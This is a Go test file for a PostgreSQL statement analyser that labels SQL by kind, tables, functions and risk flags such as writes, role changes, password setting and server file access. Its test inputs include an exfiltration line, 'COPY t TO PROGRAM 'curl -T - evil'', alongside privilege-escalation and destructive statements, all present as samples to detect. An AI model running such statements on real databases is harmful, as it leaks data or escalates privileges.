package statement_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/clawpatrol/clawpatrol/protocols/postgres/statement"
)

// parser is one for all tests: loading the grammar takes a second.
var parser statement.Parser

func factsOf(t testing.TB, sql string) []statement.Facts {
	t.Helper()
	facts, err := parser.Facts(sql)
	if err != nil {
		t.Fatalf("Facts(%q): %v", sql, err)
	}
	return facts
}

func TestFacts(t *testing.T) {
	for _, c := range []struct {
		sql                      string
		kind                     string
		verbs, tables, functions string
		flags                    string // w writes, u unknown, x read-write, r role, p password, f server file
	}{
		{"SELECT 1", "SELECT", "SELECT", "", "", ""},
		{"TABLE orders", "SELECT", "SELECT", "orders", "", ""},
		{"VALUES (1), (2)", "SELECT", "SELECT", "", "", ""},
		{`SELECT a FROM Orders o JOIN sales."Line.Items" l ON l.o = o.id`, "SELECT", "SELECT", `orders sales."Line.Items"`, "", ""},
		{"SELECT * FROM db.secret.users", "SELECT", "SELECT", "secret.users", "", ""},
		{"WITH orders AS (SELECT * FROM orders) SELECT * FROM orders", "SELECT", "SELECT", "orders", "", ""},
		{"WITH x AS (SELECT 1) SELECT * FROM x, y", "SELECT", "SELECT", "y", "", ""},
		{"WITH x AS (SELECT 1) SELECT * FROM x WHERE a IN (SELECT b FROM public.x)", "SELECT", "SELECT", "public.x", "", ""},
		{"SELECT (WITH x AS (SELECT 1) SELECT * FROM x), (SELECT a FROM x)", "SELECT", "SELECT", "x", "", ""},
		{"WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "SELECT", "SELECT", "", "", ""},
		{"WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", "SELECT", "SELECT", "b", "", ""},
		{"WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t", "INSERT", "INSERT SELECT", "t", "", "w"},
		{"WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "SELECT", "DELETE SELECT", "orders", "", "w"},
		{"INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = (SELECT max(c) FROM u)", "INSERT", "INSERT SELECT", "t u", "max", "w"},
		{"INSERT INTO t VALUES (1)", "INSERT", "INSERT", "t", "", "w"},
		{"UPDATE a SET b = c FROM d WHERE EXISTS (SELECT FROM e)", "UPDATE", "SELECT UPDATE", "a d e", "", "w"},
		{"DELETE FROM a USING b", "DELETE", "DELETE", "a b", "", "w"},
		{"MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE", "MERGE", "MERGE", "a b", "", "w"},
		{"SELECT 1 UNION SELECT * FROM a EXCEPT SELECT * FROM b", "SELECT", "SELECT", "a b", "", ""},
		{"SELECT * FROM a FOR UPDATE OF a", "SELECT", "SELECT", "a", "", "w"},
		{"SELECT * INTO b FROM a", "SELECT INTO", "SELECT", "a b", "", "w"},
		{"SELECT * FROM a, LATERAL f(a.x) g", "SELECT", "SELECT", "a", "f", "u"},
		{"SELECT pg_catalog.lower(x), sales.lower(x) FROM a", "SELECT", "SELECT", "a", "lower sales.lower", "u"},
		{"SELECT a <-> b, a OPERATOR(sales.+) b FROM t", "SELECT", "SELECT", "t", "", "u"},
		{"SELECT nextval('s')", "SELECT", "SELECT", "", "nextval", "w"},
		{"SELECT x FROM t WHERE y = (SELECT lo_unlink(1))", "SELECT", "SELECT", "t", "lo_unlink", "w"},
		{"SELECT query_to_xml('DELETE FROM t', true, true, '')", "SELECT", "SELECT", "", "query_to_xml", "u"},

		{"EXPLAIN DELETE FROM t", "EXPLAIN", "EXPLAIN", "t", "", ""},
		{"EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN", "DELETE EXPLAIN", "t", "", "w"},
		{"EXPLAIN (ANALYZE off, COSTS) DELETE FROM t", "EXPLAIN", "EXPLAIN", "t", "", ""},
		{"EXPLAIN (ANALYZE 1) DELETE FROM t", "EXPLAIN", "DELETE EXPLAIN", "t", "", "w"},
		{"EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM t", "EXPLAIN", "DELETE EXPLAIN", "t", "", "w"},
		{"EXPLAIN SELECT setval('s', 1)", "EXPLAIN", "EXPLAIN", "", "setval", "w"},
		{"EXPLAIN EXECUTE p", "EXPLAIN", "EXPLAIN", "", "", "u"},
		{"PREPARE p AS DELETE FROM t", "PREPARE", "DELETE PREPARE", "t", "", "w"},
		{"EXECUTE p(1)", "EXECUTE", "EXECUTE", "", "", "u"},
		{"CREATE TABLE n AS EXECUTE p", "CREATE TABLE AS", "CREATE EXECUTE", "n", "", "wu"},
		{"DEALLOCATE p", "DEALLOCATE", "DEALLOCATE", "", "", ""},
		{"DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE CURSOR", "DECLARE SELECT", "t", "", ""},
		{"FETCH 10 FROM c", "FETCH", "FETCH", "", "", ""},
		{"COPY t TO STDOUT", "COPY", "COPY", "t", "", ""},
		{"COPY t FROM STDIN", "COPY", "COPY", "t", "", "w"},
		{"COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY", "COPY DELETE", "t", "", "w"},
		{"COPY t TO PROGRAM 'curl -T - evil'", "COPY", "COPY", "t", "", "wf"},
		{"COPY t TO '/tmp/x'", "COPY", "COPY", "t", "", "wf"},
		{"DO $$BEGIN DELETE FROM t; END$$", "DO", "DO", "", "", "u"},
		{"CALL p(f(1))", "CALL", "CALL", "", "f p", "u"},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION", "CREATE", "", "", "wu"},
		{"CREATE PROCEDURE f() LANGUAGE sql SET role = x BEGIN ATOMIC DELETE FROM t; END", "CREATE PROCEDURE", "CREATE DELETE SET", "t", "", "wur"},
		{"LOAD 'x'", "LOAD", "LOAD", "", "", "u"},
		{"DROP TABLE a.b, c", "DROP TABLE", "DROP", "a.b c", "", "w"},
		{"DROP TABLE c CASCADE", "DROP TABLE", "DROP", "c", "", "wu"},
		{"DROP TRIGGER x ON a.b", "DROP TRIGGER", "DROP", "a.b", "", "w"},
		{"TRUNCATE a, b", "TRUNCATE TABLE", "TRUNCATE", "a b", "", "w"},
		{"ALTER TABLE a ADD FOREIGN KEY (x) REFERENCES b", "ALTER TABLE", "ALTER", "a b", "", "w"},
		{"ALTER TABLE a RENAME TO b", "ALTER TABLE", "ALTER", "a", "", "w"},
		{"CREATE VIEW v AS SELECT * FROM t", "CREATE VIEW", "CREATE SELECT", "t v", "", "w"},
		{"CREATE MATERIALIZED VIEW v AS SELECT * FROM t", "CREATE MATERIALIZED VIEW AS", "CREATE SELECT", "t v", "", "w"},
		{"CREATE RULE r AS ON SELECT TO a DO ALSO (DELETE FROM b; NOTIFY c)", "CREATE RULE", "CREATE DELETE NOTIFY", "a b", "", "w"},
		{"GRANT SELECT ON a TO x", "GRANT", "GRANT", "a", "", "w"},
		{"REVOKE ALL ON ALL TABLES IN SCHEMA s FROM x", "REVOKE", "REVOKE", "", "", "wu"},
		{"COMMENT ON COLUMN s.a.c IS 'x'", "COMMENT", "COMMENT", "s.a", "", "w"},
		{"VACUUM", "VACUUM", "VACUUM", "", "", "wu"},
		{"ANALYZE a", "ANALYZE", "ANALYZE", "a", "", "w"},
		{"LOCK TABLE a IN ACCESS SHARE MODE", "LOCK TABLE", "LOCK", "a", "", ""},
		{"LOCK TABLE a", "LOCK TABLE", "LOCK", "a", "", "w"},
		{"LISTEN c", "LISTEN", "LISTEN", "", "", ""},
		{"NOTIFY c", "NOTIFY", "NOTIFY", "", "", "w"},

		{"BEGIN", "BEGIN", "BEGIN", "", "", ""},
		{"BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE", "BEGIN", "BEGIN", "", "", ""},
		{"START TRANSACTION READ WRITE", "START", "START", "", "", "x"},
		{"PREPARE TRANSACTION 'x'", "PREPARE", "PREPARE", "", "", "w"},
		{"SET TRANSACTION READ WRITE", "SET", "SET", "", "", "x"},
		{"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "SET", "SET", "", "", "x"},
		{"SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "SET", "SET", "", "", ""},
		{"SET default_transaction_read_only = on", "SET", "SET", "", "", ""},
		{`SET LOCAL "Transaction_Read_Only" TO off`, "SET", "SET", "", "", "x"},
		{"RESET default_transaction_read_only", "RESET", "RESET", "", "", "x"},
		{"RESET ALL", "RESET", "RESET", "", "", ""},
		{"DISCARD ALL", "DISCARD", "DISCARD", "", "", ""},
		{"SELECT set_config('transaction_read_only', 'off', true)", "SELECT", "SELECT", "", "set_config", "x"},
		{"SELECT set_config('search_path', '', false)", "SELECT", "SELECT", "", "set_config", ""},
		{"SELECT set_config($1, $2, false)", "SELECT", "SELECT", "", "set_config", "uxr"},
		{"SELECT set_config('roleplay'::varchar(4), 'x', false)", "SELECT", "SELECT", "", "set_config", "uxr"},
		{"SELECT set_config(U&'\\0072ole', 'x', false)", "SELECT", "SELECT", "", "set_config", "r"},
		{"SET ROLE x", "SET", "SET", "", "", "r"},
		{"RESET ROLE", "RESET", "RESET", "", "", "r"},
		{`SET "ROLE" = 'x'`, "SET", "SET", "", "", "r"},
		{"SET SESSION AUTHORIZATION x", "SET", "SET", "", "", "r"},
		{"SELECT * FROM pg_catalog.set_config('ROLE', 'x', false)", "SELECT", "SELECT", "", "set_config", "r"},
		{"ALTER ROLE x PASSWORD 'y'", "ALTER ROLE", "ALTER", "", "", "wp"},
		{"CREATE USER x PASSWORD 'y'", "CREATE ROLE", "CREATE", "", "", "wp"},
		{"ALTER USER x SUPERUSER", "ALTER ROLE", "ALTER", "", "", "w"},
		{"SET standard_conforming_strings = on", "SET", "SET", "", "", ""},
		{"SET standard_conforming_strings = off", "SET", "SET", "", "", "u"},
		{"SET NAMES 'SJIS'", "SET", "SET", "", "", "u"},
		{"SET client_encoding = 'UTF-8'", "SET", "SET", "", "", ""},
		{"RESET client_encoding", "RESET", "RESET", "", "", "u"},
	} {
		all := factsOf(t, c.sql)
		if len(all) != 1 {
			t.Errorf("%s: %d statements", c.sql, len(all))
			continue
		}
		f := all[0]
		var flags strings.Builder
		for i, set := range []bool{f.Writes, f.Unknown, f.ReadWrite, f.SetsRole, f.SetsPassword, f.ServerFile} {
			if set {
				flags.WriteByte("wuxrpf"[i])
			}
		}
		got := []string{f.Kind, strings.Join(f.Verbs, " "), strings.Join(f.Tables, " "), strings.Join(f.Functions, " "), flags.String()}
		want := []string{c.kind, c.verbs, c.tables, c.functions, c.flags}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s\n got %q\nwant %q (%s)", c.sql, got, want, f.Why)
		}
		if f.Unknown != (f.Why != "") {
			t.Errorf("%s: Unknown %v, Why %q", c.sql, f.Unknown, f.Why)
		}
	}
}

func TestFacts_EveryStatementOfAText(t *testing.T) {
	facts := factsOf(t, "SELECT 1; -- x\n; DELETE FROM a; SET ROLE b;")
	var kinds []string
	for _, f := range facts {
		kinds = append(kinds, f.Kind)
	}
	if want := []string{"SELECT", "DELETE", "SET"}; !reflect.DeepEqual(kinds, want) {
		t.Errorf("kinds %q, want %q", kinds, want)
	}
	for _, empty := range []string{"", " ", ";;", "-- only this", "/* and /* this */ */"} {
		if facts := factsOf(t, empty); len(facts) != 0 {
			t.Errorf("%q: %d statements", empty, len(facts))
		}
	}
}

func TestFacts_Names(t *testing.T) {
	f := factsOf(t, "PREPARE p AS SELECT mine(1), a <#> b")[0]
	if f.Prepares != "p" || !reflect.DeepEqual(f.Opaque, []string{"mine", "operator <#>"}) {
		t.Errorf("%+v", f)
	}
	if f := factsOf(t, "EXECUTE p")[0]; f.Executes != "p" {
		t.Errorf("%+v", f)
	}
	if f := factsOf(t, "SET Search_Path = a, b")[0]; !reflect.DeepEqual(f.Settings, []string{"search_path"}) {
		t.Errorf("%+v", f)
	}
	if f := factsOf(t, "ALTER ROLE r SET work_mem = 1")[0]; !reflect.DeepEqual(f.Settings, []string{"work_mem"}) {
		t.Errorf("%+v", f)
	}
}
